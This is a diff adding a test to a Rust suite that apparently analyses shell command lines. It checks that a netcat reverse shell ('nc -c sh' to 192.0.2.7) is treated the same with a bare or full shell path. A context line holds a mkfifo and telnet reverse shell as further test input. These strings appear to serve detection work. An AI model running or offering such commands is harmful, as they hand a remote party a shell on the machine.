@@ -163,6 +163,17 @@ fn arguments_that_come_through_a_pipe_are_read() {
 }
 
 #[test]
+fn a_shell_is_the_same_by_its_name_and_by_its_path() {
+    let actions = |shell: &str| -> Vec<_> {
+        let (command, _) = read(&format!("nc -c {shell} 192.0.2.7 22"));
+        command.actions().collect()
+    };
+    for shell in ["sh", "bash", "dash"] {
+        assert_eq!(actions(shell), actions(&format!("/bin/{shell}")));
+    }
+}
+
+#[test]
 fn what_runs_a_program_hides_nothing_of_what_it_does() {
     let line = |wrapper: &str| {
         format!("mkfifo /tmp/p && telnet 192.0.2.7 23 0</tmp/p | {wrapper}sh 1>/tmp/p")
